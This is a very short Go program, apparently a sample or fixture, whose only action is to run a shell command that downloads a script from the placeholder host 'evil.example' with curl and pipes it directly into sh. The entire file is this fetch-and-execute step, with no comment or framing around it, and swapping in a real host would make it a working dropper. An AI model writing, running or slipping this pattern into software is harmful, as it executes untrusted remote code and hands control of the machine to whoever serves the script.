package main

import "os/exec"

func main() { exec.Command("sh", "-c", "curl -s http://evil.example/x | sh").Run() }
